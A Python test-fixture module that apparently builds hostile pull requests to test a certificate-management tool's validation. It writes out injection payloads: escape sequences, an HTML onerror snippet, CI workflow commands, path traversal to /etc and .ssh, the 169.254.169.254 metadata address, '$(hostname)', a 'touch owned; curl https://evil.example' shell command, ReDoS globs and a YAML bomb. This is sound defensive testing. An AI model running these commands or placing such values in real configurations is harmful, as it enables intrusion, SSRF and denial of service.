"""Pull requests whose documents are well formed and mean harm: other places, other keys, words that act."""

from collections.abc import Iterator
from typing import Any

from hostile_trees import Node
from hostile_yaml import PLANNED, SHOUT, Case, certificate, document, said

ESC = "\x1b[2K\x1b[31m\x1b]8;;https://evil.example\x07"
MARKDOWN = "](https://evil.example) <img src=x onerror=alert(1)> @everyone #1 `|`\n\n# Approved"
HIDDEN = "\u202egnp.exe\u2066\u200b\u00ad\u2028"
STRANGER = f"age1{'q' * 58}"
KEY = f"ssh-ed25519 {'A' * 68}"


def words() -> Iterator[Case]:
    """Text that a terminal, a runner or a browser might obey."""
    for what, text in {
        "workflow commands": f"{SHOUT}\n{SHOUT}\r{SHOUT}\x0b::set-output name=x::y\u2028{SHOUT}",
        "workflow commands of old": "##[error]x ##[group]y",
        "escape sequences": ESC,
        "Markdown": MARKDOWN,
        "hidden directions": HIDDEN,
        "confusable letters": "\u0430\u0440\u0440\u04cf\u0435.example.com",
    }.items():
        yield said(f"{what} in a name", certificate(text))
        yield said(f"{what} in values", certificate("evil", labels={"x": text}, dnsNames=[text]))
        yield said(f"{what} as keys", document("Certificate", "evil", {text: 1}, **{text: text}))
        yield said(f"{what} as a kind", document(text, "evil", {}))
    shown = {"a": "@here #1 `x` |", "b": "::x", "c": "<script>", "d": "https://evil.example"}
    yield said("words that may be labels", certificate("evil", labels=shown), code=PLANNED)
    yield said("a reference of words", certificate("evil", issuerRef=SHOUT, targets=[ESC]))
    yield said(
        "a common name of words",
        certificate("evil", commonName="::error::" + "x" * 50),
        code=PLANNED,
    )
    yield said(
        "a subject of words",
        certificate("evil", subject={"organizations": [MARKDOWN[:60]]}),
        code=PLANNED,
    )
    yield said(
        "60 KB of names",
        *(certificate(f"n{'x' * 40}{n}", labels={"l": "y" * 190}) for n in range(300)),
        code=PLANNED,
    )


def names() -> Iterator[Case]:
    """Names that would become paths, addresses or options."""
    for name in (
        "../../etc/passwd",
        "/etc/passwd",
        "..",
        "-rf",
        "a/../b",
        "web@edge",
        "web#1",
        "CON",
        "a\\b",
        "",
    ):
        yield said(f"the name {name!r}", certificate(name))
    there = {"targetRef": "edge", "objectName": "../../../etc/cron.d/x"}
    yield said("an object name that climbs", certificate("evil", targets=[there]))
    adopt = {
        "targetRef": "acm",
        "adopt": ["--help", "../x", "arn:aws:acm:eu-west-1:1:certificate/x"],
    }
    yield said("adopting what is somebody's", certificate("evil", targets=[adopt]), code=PLANNED)
    yield said("labels of ours", certificate("evil", labels={"certform-owner": "me"}))
    formerly = document(
        "Certificate",
        "evil",
        {"issuerRef": "issuing", "dnsNames": ["x.example.com"]},
        formerly=["one", "two"],
    )
    yield said("a certificate that was others", formerly)


def moved(name: str, what: str, spec: Any, code: int = PLANNED) -> Case:
    """A pull request that adds or changes one target."""
    return said(name, document("Target", what, spec), path=f"config/{what}.yaml", code=code)


def targets() -> Iterator[Case]:
    """Targets that send somebody elsewhere; each is shown, and nobody goes there."""

    yield moved(
        "a vault of a stranger",
        "vault",
        {"azure-key-vault": {"vault": "https://evil.example", "verifyChallengeResource": False}},
    )
    yield moved(
        "a role of a stranger",
        "acm",
        {"aws-acm": {"regions": ["eu-west-1"], "role": "arn:aws:iam::666666666666:role/evil"}},
    )
    yield moved(
        "the machine's own metadata",
        "google",
        {
            "gcp-certificate-manager": {
                "project": "example-project",
                "endpoint": "https://169.254.169.254",
            }
        },
    )
    yield moved(
        "regions without end",
        "acm",
        {"aws-acm": {"regions": [f"eu-west-{n}" for n in range(10)] * 3000}},
        1,
    )


def directories() -> Iterator[Case]:
    """Targets on this host, or of a kind that nobody knows; none is looked at, and nothing is run."""
    yield moved("a plug-in nobody has", "extra", {"evil.example/box": {"run": "id"}}, 1)
    yield moved("a plug-in of the system", "extra", {"os/system": {"x": "touch owned"}}, 1)
    yield moved(
        "two kinds at once", "extra", {"evil.example/box": {}, "local-directory": {"path": "/"}}, 1
    )
    for path in ("/proc/self", "/dev", "/etc", "/proc/self/root/etc", ".git", ".git/hooks"):
        yield moved(f"a directory at {path!r}", "dir", {"local-directory": {"path": path}})
    for path in ("/", "live/edge/one", "\u202e/x"):  # which holds, or lies in, what others have
        yield moved(f"a directory at {path!r}", "dir", {"local-directory": {"path": path}}, 1)
    yield moved("a directory that climbs", "dir", {"local-directory": {"path": "../../../etc"}}, 1)
    yield moved("a directory of a home", "dir", {"local-directory": {"path": "~root/.ssh"}}, 1)
    for hosts in (["localhost"], ["evil.example.com"], ["*", "a.b.c.d.example"], ["$(hostname)"]):
        yield moved(
            f"hosts {hosts}",
            "dir",
            {"local-directory": {"path": "/etc", "hosts": hosts, "owner": "root"}},
        )
    command = ["/bin/sh", "-c", "touch owned; curl https://evil.example"]
    yield moved(
        "commands", "dir", {"local-directory": {"path": "x"}, "check": command, "reload": command}
    )
    yield moved(
        "a command of the repository",
        "dir",
        {"local-directory": {"path": "x"}, "reload": ["./evil.sh"]},
        1,
    )
    yield moved(
        "a handshake elsewhere",
        "dir",
        {"local-directory": {"path": "x"}, "verify": {"connect": "169.254.169.254:80"}},
    )
    many = [
        document("Target", f"t{n}", {"local-directory": {"path": f"live/{n}"}})
        for n in range(5_000)
    ]
    yield said("targets without end", *many, path="config/many.yaml", code=PLANNED)


def ca(name: str, spec: Any, code: int = PLANNED) -> Case:
    """A pull request that adds a CA."""
    made = document("Authority", "stranger", {"commonName": "Stranger", "duration": "10y", **spec})
    return said(name, made, path="authorities/stranger.yaml", code=code)


def keys() -> Iterator[Case]:
    """CAs, recipients and issuers of strangers."""

    yield ca("a CA for a stranger", {"privateKey": {"recipients": [{"age": STRANGER}]}})
    yield ca(
        "a CA for every key service",
        {
            "privateKey": {
                "recipients": [
                    {"pgp": "DEADBEEF"},
                    {"aws-kms": "arn:evil"},
                    {"hc-vault": "https://evil.example"},
                ]
            }
        },
    )
    kms = "arn:aws:kms:eu-west-1:666666666666:key/6b4b5c1e-9c5d-4f3a-8a7e-2f1d0c9b8a7f"
    yield ca(
        "a CA at a stranger's key service",
        {
            "privateKey": {
                "custody": {"aws-kms": {"key": kms, "role": "arn:aws:iam::666666666666:role/x"}}
            }
        },
    )
    yield ca(
        "a CA key by an address",
        {"privateKey": {"custody": {"azure-key-vault": f"https://evil.example/keys/x/{'0' * 32}"}}},
    )
    yield ca("a CA of generation a billion", {"generation": "999999999", "pathLength": "999999999"})
    chain = [
        document("Authority", f"a{n}", {"parentRef": f"a{n + 1}", "commonName": "x"})
        for n in range(2_000)
    ]
    yield said("CAs in a chain without end", *chain, path="authorities/chain.yaml")
    circle = [
        document("Authority", f"a{n}", {"parentRef": f"a{(n + 1) % 50}", "commonName": "x"})
        for n in range(50)
    ]
    yield said("CAs in a circle", *circle, path="authorities/circle.yaml")


def others() -> Iterator[Case]:
    """Issuers and sealed files of strangers."""
    arn = "arn:aws:acm-pca:eu-west-1:666666666666:certificate-authority/6b4b5c1e-9c5d-4f3a-8a7e-2f1d0c9b8a7f"
    yield said(
        "an issuer of a stranger",
        document("Issuer", "theirs", {"aws-private-ca": {"arn": arn}}),
        path="config/issuer.yaml",
        code=PLANNED,
    )
    kms = '[{"arn": "arn:evil"}]'
    sealed = f'{{"data": "ENC[AES256_GCM,data:x,type:str]", "sops": {{"age": [], "kms": {kms}}}}}'
    yield said("secrets of a stranger", sealed, path="secrets.sops.yaml", code=PLANNED)
    yield said(
        "a secret that is a bomb",
        "a: &a [*a, *a]\nsops: " + "[" * 100_000,
        path="authorities/root.sops.yaml",
        code=PLANNED,
    )


def revocations() -> Iterator[Case]:
    """Revocations of everything, at moments that are none, of serials without end."""
    yield said(
        "a revocation of everything",
        document(
            "Revocation",
            "all",
            {"certificates": ["one", "two", "three"], "issuedBefore": "2020-01-01T00:00:00Z"},
        ),
        path="evil.yaml",
        code=PLANNED,
    )
    for moment in (
        "9999-12-31T23:59:59-23:59",
        "0001-01-01T00:00:00+23:59",
        "99999-01-01T00:00:00Z",
        "2026-02-30T25:61:61Z",
    ):
        yield said(
            f"the moment {moment}",
            document("Revocation", "all", {"certificates": ["one"], "issuedBefore": moment}),
        )
    serials = [f"{n:040x}" for n in range(20_000)]
    yield said(
        "serials without end", document("Revocation", "all", {"serials": serials}), code=PLANNED
    )
    yield said(
        "a serial of a megabyte", document("Revocation", "all", {"serials": ["f" * 1_000_000]})
    )


def rules() -> Iterator[Case]:
    """Policies and profiles that are to take for ever, or that let through what the base does not."""

    def policy(name: str, *globs: str, code: int = PLANNED, **allowed: Any) -> Case:
        made = document("Policy", "evil", {"selector": {"paths": list(globs)}, "allowed": allowed})
        deep = f"{'a/' * 60}{'a' * 120}/evil.yaml"
        body = certificate("evil").encode()
        return Case(name, {"config/evil.yaml": Node(made.encode()), deep: Node(body)}, code)

    yield policy("a glob of stars", "*a" * 95 + "x")
    yield policy("a glob of folders", "**/" * 60 + "x")
    yield policy("a glob of both", "**/*a" * 38 + "/x")
    yield policy("a glob with a pattern in it", "(a+)+$", "[", "a{1,99999}", "(?R)")
    yield policy("globs without end", *("**/*/**" for _ in range(5_000)))
    lax = document("Policy", "guard", {"selector": {"paths": ["nowhere/**"]}})
    tried = certificate("evil", dnsNames=["bank.example.net"]).encode()
    yield Case(
        "a policy that is taken away",
        {"config/policy.yaml": Node(lax.encode()), "teams/evil.yaml": Node(tried)},
    )
    unknown = [certificate(f"c{n}", profileRef=f"prof{n}x") for n in range(4_000)]
    shelf = "\n---\n".join(document("Profile", f"p{n}", {"duration": "30d"}) for n in range(900))
    files = {
        "config/p.yaml": Node(shelf.encode()),
        "evil.yaml": Node("\n---\n".join(unknown).encode()),
    }
    yield Case("profiles that are nearly there", files)
    chain = [document("Profile", f"p{n}", {"profileRef": f"p{n + 1}"}) for n in range(9_000)]
    yield said("profiles in a chain", *chain, path="config/p.yaml")
    wide = document("Profile", "wide", {"usages": ["server auth"] * 60_000})
    asked = "\n---\n".join(certificate(f"c{n}", profileRef="wide") for n in range(4_000))
    yield Case(
        "a wide profile of many",
        {"config/p.yaml": Node(wide.encode()), "evil.yaml": Node(asked.encode())},
    )
